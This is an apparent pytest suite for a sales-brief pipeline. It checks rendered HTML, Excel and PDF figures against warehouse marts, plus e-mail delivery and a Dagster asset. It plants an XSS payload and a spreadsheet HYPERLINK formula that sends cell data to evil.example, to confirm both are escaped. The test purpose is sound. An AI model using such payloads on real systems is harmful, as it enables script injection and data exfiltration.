"""Briefs end to end on a small demo warehouse (generated org → ingest → dbt build).

Figures are checked against the marts with queries written here, not read back from the
brief code's SQL. The data-quality marts are added by hand when dbt has not built them yet.
"""

from __future__ import annotations

import email
import os
import socket
import subprocess
import sys
import warnings
from datetime import date, datetime, timedelta
from email import policy
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from salespulse.briefs import data as D
from salespulse.briefs.deliver import SmtpConfig, resend_failed
from salespulse.briefs.i18n import Locale
from salespulse.briefs.publish import publish_period
from salespulse.briefs.render import render_daily, render_monthly, render_weekly, safe_cell

ROOT = Path(__file__).resolve().parent.parent
DBT = Path(sys.executable).parent / "dbt"
AS_OF = date(2026, 3, 20)  # a Friday
WEEK = date(2026, 3, 9)  # ISO week 2026-W11, closed on the as-of date
MONTH = date(2026, 2, 1)
INJECTION = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
GENERATED = datetime(2026, 3, 20, 18, 0)

BRIEF_MODELS = (
    "kpi_rep_daily",
    "kpi_rep_weekly",
    "kpi_rep_monthly",
    "kpi_team_weekly",
    "kpi_team_monthly",
    "kpi_region_monthly",
    "kpi_company_monthly",
    "kpi_product_monthly",
    "fct_weekly_reports",
    "fct_action_items",
    "fct_orders",
    "fct_targets",
    "dim_customers",
    "dim_dates",
    "dq_submissions",
    "dq_anomalies",
)

pytestmark = pytest.mark.xdist_group("briefs")


def _calendar_frame(start: date, end: date) -> pd.DataFrame:
    from salespulse.calendar import WorkCalendar

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rows = WorkCalendar().days(start, end)
    return pd.DataFrame(rows, columns=["date_day", "is_workday", "day_kind"])


def _add_quality_marts(con: duckdb.DuckDBPyConnection) -> None:
    """Stand-ins for marts.dq_submissions / dq_anomalies (their agreed columns) when not built yet."""
    tables = {r[0] for r in con.execute("select table_name from information_schema.tables").fetchall()}
    if "dq_submissions" not in tables:
        con.execute(
            """
            create table marts.dq_submissions as
            select
                'daily' as report_type, r.rep_id, r.team_id, r.period_start,
                r.period_start + interval 17 hour as due_at,
                d.submitted_at,
                case when d.rep_id is null then 'missing' when d.is_late then 'late' else 'on_time' end
                    as status,
                case when d.is_late then cast(date_diff('minute', r.period_start + interval 17 hour,
                    d.submitted_at) as bigint) end as minutes_late
            from marts.kpi_rep_daily as r
            left join marts.fct_daily_reports as d on d.rep_id = r.rep_id and d.report_date = r.period_start
            where r.daily_reports_expected > 0
            """
        )
    if "dq_anomalies" not in tables:
        con.execute(
            """
            create table marts.dq_anomalies (
                kind varchar, category varchar, severity varchar, rep_id varchar, team_id varchar,
                detail varchar, measured_value double, baseline_value double, start_date date, end_date date)
            """
        )
    # A planted streak and a failed check on the digest's day, whatever the real marts hold.
    rep_id, team_id = con.execute(
        "select rep_id, team_id from marts.kpi_rep_daily where period_start = ? and role = 'rep' "
        "order by rep_id limit 1",
        [AS_OF],
    ).fetchone()
    for kind, severity, value, detail, start in (
        ("zero_visit_streak", "warn", 3, "planted: 3 working days without visits", AS_OF - timedelta(days=2)),
        ("activity_spike", "error", 48, "planted: |z| = 6.3", AS_OF),
    ):
        con.execute(
            "insert into marts.dq_anomalies by name select ? as kind, 'data_quality' as category,"
            " ? as severity, ? as rep_id, ? as team_id, ? as detail, ? as measured_value,"
            " 5.0 as baseline_value, ? as start_date, ? as end_date",
            [kind, severity, rep_id, team_id, detail, value, start, AS_OF],
        )


def _plant_weekly_text(con: duckdb.DuckDBPyConnection) -> tuple[str, str]:
    """Make two below-target reps of the week report an HTML injection and a formula as obstacles."""
    rows = con.execute(
        """
        select k.rep_id, k.team_id from marts.kpi_rep_weekly as k
        join marts.fct_weekly_reports as w on w.rep_id = k.rep_id and w.week_start = k.period_start
        where k.period_start = ? and k.completion_rate < 1
        order by k.team_id, k.rep_id
        """,
        [WEEK],
    ).fetchall()
    by_team: dict[str, list[str]] = {}
    for rep_id, team_id in rows:
        by_team.setdefault(team_id, []).append(rep_id)
    team_id, reps = next((t, r) for t, r in by_team.items() if len(r) >= 2)
    con.execute(
        "update marts.fct_weekly_reports set obstacle_text = ? where rep_id = ? and week_start = ?",
        [INJECTION, reps[0], WEEK],
    )
    con.execute(
        "update marts.fct_weekly_reports set obstacle_text = ?, support_needed = ? where rep_id = ? "
        "and week_start = ?",
        [FORMULA, "@SUM(1+1)", reps[1], WEEK],
    )
    return team_id, reps[0]


@pytest.fixture(scope="session")
def warehouse(tmp_path_factory):
    from salespulse.config import load_settings
    from salespulse.contracts import load_contracts
    from salespulse.generate import generate_org
    from salespulse.ingest.loader import Ingestor

    home = tmp_path_factory.mktemp("briefs_home")
    old = {k: os.environ.get(k) for k in ("SALESPULSE_HOME", "SALESPULSE_WAREHOUSE")}
    os.environ["SALESPULSE_HOME"] = str(home)
    os.environ.pop("SALESPULSE_WAREHOUSE", None)
    try:
        settings = load_settings()
        settings.ensure_dirs()
        generate_org(home, seed=5, as_of=AS_OF, reps=24, months=15)
        with duckdb.connect(str(settings.warehouse_path)) as con:
            Ingestor(con, settings, load_contracts(ROOT / "models")).run()
            frame = _calendar_frame(date(2024, 1, 1), date(2026, 12, 31))  # noqa: F841 (read by SQL)
            con.execute("create or replace table raw.work_calendar as select * from frame")
    finally:
        for key, value in old.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    result = subprocess.run(
        [
            # Only the models the briefs read (their tests belong to the dbt suite).
            str(DBT),
            "run",
            "--select",
            *(f"+{model}" for model in BRIEF_MODELS),
            "--project-dir",
            str(ROOT / "dbt_project"),
            "--profiles-dir",
            str(ROOT / "dbt_project"),
            "--target-path",
            str(home / "target"),
            "--log-path",
            str(home / "logs"),
            "--vars",
            f"{{as_of_date: '{AS_OF}'}}",
        ],
        cwd=ROOT,
        env={**os.environ, "SALESPULSE_WAREHOUSE": str(settings.warehouse_path)},
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stdout[-6000:] + result.stderr[-2000:]
    with duckdb.connect(str(settings.warehouse_path)) as con:
        _add_quality_marts(con)
        team_id, injected_rep = _plant_weekly_text(con)
    return {"path": settings.warehouse_path, "home": home, "team": team_id, "injected_rep": injected_rep}


@pytest.fixture
def con(warehouse):
    with D.open_warehouse(warehouse["path"]) as connection:
        yield connection


def _team(con, team_id: str) -> D.Scope:
    return next(s for s in D.team_scopes(con, D.Period.week(WEEK)) if s.entity_id == team_id)


# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("locale", ["zh-CN", "en"])
def test_briefs_render_in_both_locales(con, warehouse, locale):
    t = Locale(locale)
    team = _team(con, warehouse["team"])
    weekly = render_weekly(D.load_weekly(con, team, WEEK), t, GENERATED)
    monthly = render_monthly(D.load_monthly(con, D.company_scope(), MONTH), t, GENERATED)
    daily = render_daily(D.load_daily(con, team, AS_OF), t, GENERATED)
    if locale == "zh-CN":
        assert "团队周度业绩简报" in weekly.html and "2026年第11周" in weekly.html and "万" in weekly.html
        assert "月度业绩复盘" in monthly.html and "个人业绩跟踪表" in monthly.html
        assert "团队业绩汇总表" in monthly.html and "目标对比分析表" in monthly.html
        assert "每日异常清单" in daily.html and "2026年3月20日" in daily.html
    else:
        assert "Team weekly brief" in weekly.html and "Week 11, 2026" in weekly.html and "CNY " in weekly.html
        assert "Monthly review pack" in monthly.html and "February 2026" in monthly.html
        assert "Daily exception digest" in daily.html and "20 Mar 2026" in daily.html
    for brief in (weekly, monthly, daily):
        assert f'lang="{t.html_lang}"' in brief.html
        # Self-contained: styles inline, charts as data URIs, nothing fetched.
        assert "<link" not in brief.html and 'src="http' not in brief.html
    assert monthly.html.count('src="data:image/png;base64,') == 5  # trend, 2 completion, 2 shares


def test_weekly_figures_equal_the_marts(con, warehouse):
    t = Locale("zh-CN")
    team = _team(con, warehouse["team"])
    brief = render_weekly(D.load_weekly(con, team, WEEK), t, GENERATED)
    sales, target, completion, orders = con.execute(
        "select sales_amount, target_amount, completion_rate, orders_count from marts.kpi_team_weekly"
        " where team_id = ? and period_label = '2026-W11'",
        [team.entity_id],
    ).fetchone()
    figures = dict(brief.key_figures)
    assert figures["销售额"] == f"{sales / 10000:,.2f}万"
    assert figures["目标"] == f"{target / 10000:,.2f}万"
    assert figures["完成率"] == f"{completion * 100:.1f}%"
    assert figures["订单数"] == str(orders)
    # Every rep line of the HTML table carries the mart's sales.
    for rep_name, rep_sales in con.execute(
        "select rep_name, sales_amount from marts.kpi_rep_weekly"
        " where team_id = ? and period_label = '2026-W11'"
        " and role = 'rep'",
        [team.entity_id],
    ).fetchall():
        assert f"<td>{rep_name}</td>" in brief.html
        assert f"{rep_sales / 10000:,.2f}万" in brief.html


def test_monthly_pack_figures_and_workbook_equal_the_marts(con, tmp_path):
    from openpyxl import load_workbook

    t = Locale("en")
    brief = render_monthly(D.load_monthly(con, D.company_scope(), MONTH), t, GENERATED)
    sales, target, yoy = con.execute(
        "select sales_amount, target_amount, yoy_sales_growth from marts.kpi_company_monthly"
        " where period_label = '2026-02'"
    ).fetchone()
    figures = dict(brief.key_figures)
    assert figures["Sales"] == f"CNY {sales:,.0f}"
    assert figures["Target"] == f"CNY {target:,.0f}"
    assert f"YoY {yoy * 100:+.1f}%" in brief.html

    path = tmp_path / "pack.xlsx"
    path.write_bytes(brief.xlsx())
    book = load_workbook(path)
    assert book.sheetnames[:3] == ["Personal tracking", "Team summary", "Target vs actual"]
    personal = book["Personal tracking"]
    assert personal.freeze_panes == "A2"
    header = [c.value for c in personal[1]]
    sales_col = header.index("Actual (CNY)")
    rate_col = header.index("Completion")
    by_rep = {row[0].value: row for row in personal.iter_rows(min_row=2)}
    expected = con.execute(
        "select rep_name, sales_amount, completion_rate from marts.kpi_rep_monthly"
        " where period_label = '2026-02'"
        " and role = 'rep'"
    ).fetchall()
    assert expected
    for rep_name, rep_sales, rate in expected:
        row = by_rep[rep_name]
        assert row[sales_col].value == pytest.approx(float(rep_sales))
        assert row[sales_col].number_format == "#,##0"
        if rate is not None:
            assert row[rate_col].value == pytest.approx(rate)
            assert row[rate_col].number_format == "0.0%"
    teams = book["Team summary"]
    assert teams.freeze_panes == "A2"
    total = [c.value for c in list(teams.iter_rows())[-1]]
    assert total[0] == "Total" and total[4] == pytest.approx(float(sales))


def test_zh_workbook_holds_wan_yuan(con, warehouse, tmp_path):
    from openpyxl import load_workbook

    team = _team(con, warehouse["team"])
    brief = render_monthly(D.load_monthly(con, team, MONTH), Locale("zh-CN"), GENERATED)
    path = tmp_path / "team.xlsx"
    path.write_bytes(brief.xlsx())
    sheet = load_workbook(path)["个人业绩跟踪表"]
    header = [c.value for c in sheet[1]]
    column = header.index("实际完成（万元）")
    sales = dict(
        con.execute(
            "select rep_name, sales_amount from marts.kpi_rep_monthly"
            " where team_id = ? and period_label = '2026-02'",
            [team.entity_id],
        ).fetchall()
    )
    for row in sheet.iter_rows(min_row=2):
        if row[0].value in sales:
            assert row[column].value * 10000 == pytest.approx(float(sales[row[0].value]))
            assert row[column].number_format == "#,##0.00"


def test_obstacle_injection_is_escaped(con, warehouse):
    team = _team(con, warehouse["team"])
    brief = render_weekly(D.load_weekly(con, team, WEEK), Locale("zh-CN"), GENERATED)
    assert "<script>" not in brief.html and "<img src=x" not in brief.html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in brief.html


def test_formula_looking_obstacle_is_inert_in_xlsx(con, warehouse, tmp_path):
    from openpyxl import load_workbook

    team = _team(con, warehouse["team"])
    brief = render_weekly(D.load_weekly(con, team, WEEK), Locale("en"), GENERATED)
    path = tmp_path / "weekly.xlsx"
    path.write_bytes(brief.xlsx())
    cells = [c for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"], "no formula anywhere"
    planted = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert planted and all(c.value == "'" + FORMULA and c.data_type == "s" for c in planted)
    assert any(c.value == "'@SUM(1+1)" for c in cells)
    assert safe_cell("-1") == "'-1" and safe_cell(-1) == -1 and safe_cell("plain") == "plain"


def test_pdf_has_chinese_text_and_a_visible_page(con, warehouse, tmp_path):
    from PIL import Image

    team = _team(con, warehouse["team"])
    brief = render_monthly(D.load_monthly(con, team, MONTH), Locale("zh-CN"), GENERATED)
    pdf = tmp_path / "pack.pdf"
    pdf.write_bytes(brief.pdf())
    text = subprocess.run(
        ["pdftotext", "-l", "1", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "月度业绩复盘" in text and team.name in text and "数据完整性" in text
    subprocess.run(
        ["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "page")], check=True
    )
    page = Image.open(next(tmp_path.glob("page*.png"))).convert("L")
    dark = sum(1 for value in page.getdata() if value < 200)
    assert dark > 0.03 * page.width * page.height, "the first page is (nearly) blank"


def test_daily_digest_lists_exceptions_and_marks_provisional(con, warehouse):
    rep_team = con.execute(
        "select team_id from marts.dq_anomalies where detail like 'planted%' limit 1"
    ).fetchone()[0]
    team = next(s for s in D.team_scopes(con, D.Period.day(AS_OF)) if s.entity_id == rep_team)
    data = D.load_daily(con, team, AS_OF)
    brief = render_daily(data, Locale("en"), GENERATED)
    assert "planted: 3 working days without visits" in brief.html  # streak section
    assert "planted: |z| = 6.3" in brief.html  # anomaly, and a failed check
    assert data.completeness.failed_checks and brief.provisional
    late_missing = con.execute(
        "select count(*) from marts.dq_submissions"
        " where team_id = ? and period_start = ? and report_type = 'daily'"
        " and status in ('late', 'missing')",
        [team.entity_id, AS_OF],
    ).fetchone()[0]
    assert len(data.late_or_missing) == late_missing


def test_brief_without_quality_marts_says_completeness_is_unavailable(warehouse, tmp_path):
    copy = tmp_path / "w.duckdb"
    with duckdb.connect(str(copy)) as target:
        target.execute(f"attach '{warehouse['path']}' as src (read_only)")
        target.execute("create schema marts")
        for (name,) in target.execute(
            "select table_name from information_schema.tables"
            " where table_catalog = 'src' and table_schema = 'marts'"
            " and table_name not like 'dq_%'"
        ).fetchall():
            target.execute(f"create table marts.{name} as select * from src.marts.{name}")
    with D.open_warehouse(copy) as connection:
        team = _team(connection, warehouse["team"])
        brief = render_weekly(D.load_weekly(connection, team, WEEK), Locale("en"), GENERATED)
    assert "Submission and data-quality data are unavailable" in brief.html


def test_holiday_has_no_digest_and_a_makeup_saturday_has_one(warehouse, tmp_path):
    common = {
        "warehouse_path": warehouse["path"],
        "briefs_dir": tmp_path / "briefs",
        "outbox_dir": tmp_path / "outbox",
        "locale": "zh-CN",
        "as_of": AS_OF,
        "smtp": None,
    }
    holiday = publish_period(kind="daily", start=date(2026, 1, 1), **common)
    assert holiday.published == [] and "holiday" in holiday.skipped_reason
    makeup = publish_period(kind="daily", start=date(2026, 2, 28), only={warehouse["team"]}, **common)
    assert [p.brief.scope.entity_id for p in makeup.published] == [warehouse["team"]]
    assert (tmp_path / "briefs" / "daily" / "2026-02-28" / f"{warehouse['team']}.pdf").is_file()


# --------------------------------------------------------------------------------------------- e-mail


class _Collector:
    def __init__(self):
        self.envelopes = []

    async def handle_DATA(self, server, session, envelope):
        self.envelopes.append(envelope)
        return "250 OK"


@pytest.fixture
def smtp_server():
    from aiosmtpd.controller import Controller

    handler = _Collector()
    controller = Controller(handler, hostname="127.0.0.1", port=_free_port())
    controller.start()
    try:
        yield handler, controller.port
    finally:
        controller.stop()


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_briefs_are_mailed_to_the_roster(warehouse, tmp_path, smtp_server):
    handler, port = smtp_server
    smtp = SmtpConfig(
        host="127.0.0.1", port=port, sender="briefs@salespulse.test", retries=1, backoff_seconds=0
    )

    def publish(only: set[str], resend: bool = False):
        return publish_period(
            kind="monthly",
            start=MONTH,
            warehouse_path=warehouse["path"],
            briefs_dir=tmp_path / "briefs",
            outbox_dir=tmp_path / "outbox",
            locale="zh-CN",
            as_of=AS_OF,
            smtp=smtp,
            resend=resend,
            only=only,
        )

    result = publish({warehouse["team"], "company"})
    with duckdb.connect(str(warehouse["path"]), read_only=True) as con:
        supervisors = {
            r[0]
            for r in con.execute(
                "select email from marts.dim_reps where is_current and role = 'supervisor' and team_id = ?",
                [warehouse["team"]],
            ).fetchall()
        }
        managers = {
            r[0]
            for r in con.execute(
                "select email from marts.dim_reps where is_current and role = 'manager'"
            ).fetchall()
        }
    assert supervisors
    received = {tuple(e.rcpt_tos): e for e in handler.envelopes}
    assert {to for (to,) in received} == supervisors | {
        d.recipient for p in result.published if p.brief.scope.kind == "company" for d in p.deliveries
    }
    company = next(p for p in result.published if p.brief.scope.kind == "company")
    assert company.recipients and {r.email for r in company.recipients} <= managers
    for envelope in handler.envelopes:
        assert envelope.mail_from == "briefs@salespulse.test"
        msg = email.message_from_bytes(envelope.content, policy=policy.default)
        assert msg["To"].addresses[0].addr_spec == envelope.rcpt_tos[0]
        assert "月度业绩复盘" in msg["Subject"]
        files = {part.get_filename() for part in msg.iter_attachments()}
        assert len(files) == 2 and {Path(f).suffix for f in files} == {".pdf", ".xlsx"}
        html = msg.get_body(("html",)).get_content()
        assert "月度业绩复盘" in html and "cid:" in html and "data:image" not in html
    assert all(d.status == "sent" for p in result.published for d in p.deliveries)
    assert len(list((tmp_path / "outbox").rglob("*.eml"))) == len(handler.envelopes)

    # Re-rendering the period (a re-run, a demo run twice) mails nobody twice; `resend` does.
    sent_before = len(handler.envelopes)
    again = publish({warehouse["team"], "company"})
    assert len(handler.envelopes) == sent_before
    assert {d.status for p in again.published for d in p.deliveries} == {"already_sent"}
    publish({warehouse["team"]}, resend=True)
    assert len(handler.envelopes) > sent_before


def test_smtp_failure_is_retried_reported_and_kept(warehouse, tmp_path, smtp_server):
    down = SmtpConfig(host="127.0.0.1", port=_free_port(), retries=2, backoff_seconds=0, timeout_seconds=2)
    outbox = tmp_path / "outbox"
    result = publish_period(
        kind="weekly",
        start=WEEK,
        warehouse_path=warehouse["path"],
        briefs_dir=tmp_path / "briefs",
        outbox_dir=outbox,
        locale="en",
        as_of=AS_OF,
        smtp=down,
        only={warehouse["team"]},
    )
    [item] = result.published
    assert item.deliveries and all(d.status == "failed" and d.attempts == 3 for d in item.deliveries)
    assert all(d.error for d in item.deliveries)
    for d in item.deliveries:
        assert Path(d.eml_path).is_file()
        assert (outbox / "failed" / item.brief_id / Path(d.eml_path).name).is_file()
    log = (outbox / "delivery-log.jsonl").read_text(encoding="utf-8")
    assert '"status": "failed"' in log
    # The brief itself is there, and the failed mails go out once the server is back.
    assert item.paths["pdf"].is_file()
    handler, port = smtp_server
    resent = resend_failed(outbox, SmtpConfig(host="127.0.0.1", port=port, retries=0))
    assert [d.status for d in resent] == ["sent"] * len(item.deliveries)
    assert not list((outbox / "failed").rglob("*.eml"))
    assert len(handler.envelopes) == len(item.deliveries)


# --------------------------------------------------------------------------------------------- Dagster


@pytest.mark.xdist_group("briefs")
def test_weekly_asset_materializes_a_past_week(warehouse, tmp_path, monkeypatch):
    import dagster as dg

    from pipelines.defs.briefs.assets import team_weekly_brief
    from pipelines.defs.resources import WarehouseResource
    from salespulse.config import get_settings

    home = tmp_path / "home"
    monkeypatch.setenv("SALESPULSE_HOME", str(home))
    monkeypatch.setenv("SALESPULSE_WAREHOUSE", str(warehouse["path"]))
    monkeypatch.setenv("SALESPULSE_LOCALE", "en")
    monkeypatch.delenv("SALESPULSE_SMTP_HOST", raising=False)
    get_settings.cache_clear()
    try:
        result = dg.materialize(
            [team_weekly_brief],
            partition_key=WEEK.isoformat(),
            resources={"warehouse": WarehouseResource(path=str(warehouse["path"]))},
        )
    finally:
        get_settings.cache_clear()
    assert result.success
    [materialization] = result.asset_materializations_for_node("briefs__team_weekly_brief")
    metadata = materialization.metadata
    assert metadata["period"].value == "2026-W11"
    assert metadata["briefs"].value >= 1
    assert "Sales" in metadata["preview"].value and "data:image/png;base64," in metadata["preview"].value
    folder = home / "briefs" / "weekly" / "2026-W11"
    assert (folder / f"{warehouse['team']}.html").is_file()
    assert (folder / f"{warehouse['team']}.xlsx").is_file()
    assert list((home / "outbox" / "weekly" / "2026-W11").rglob("*.eml"))
